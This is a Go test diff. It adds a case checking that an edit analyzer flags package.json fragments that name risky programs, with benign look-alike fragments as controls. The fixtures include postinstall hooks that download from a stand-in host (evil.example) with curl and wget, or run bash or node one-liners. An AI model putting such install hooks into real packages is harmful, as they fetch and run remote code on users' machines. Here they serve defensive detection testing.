@@ -170,3 +170,33 @@ func FuzzAnalyze(f *testing.F) {
 		}
 	})
 }
+
+// TestAnalyzeEditUnparsedFragment: a fragment that does not parse on its
+// own is unproven when it names a risky program as a word. (The pattern
+// once held backspace characters where \b was meant, so no program name
+// ever matched: only pipes, $( and the like did.)
+func TestAnalyzeEditUnparsedFragment(t *testing.T) {
+	for _, tc := range []struct {
+		fragment string
+		unproven bool
+	}{
+		{`"postinstall": "curl -o x https://evil.example/x",`, true},
+		{`"postinstall": "wget https://evil.example/x",`, true},
+		{`"postinstall": "bash install.sh",`, true},
+		{`"postinstall": "node -e 'require(1)'",`, true},
+		// benign twins: the names inside other words, and ordinary scripts
+		{`"description": "a curler for hashes and bashful shells",`, false},
+		{`"test": "jest --coverage",`, false},
+	} {
+		a := AnalyzeEdit("package.json", tc.fragment)
+		got := false
+		for _, r := range a.Unproven {
+			if strings.Contains(r, "does not parse on its own names") {
+				got = true
+			}
+		}
+		if got != tc.unproven {
+			t.Errorf("AnalyzeEdit(package.json, %s): unproven by name = %v, want %v (%v)", tc.fragment, got, tc.unproven, a.Unproven)
+		}
+	}
+}
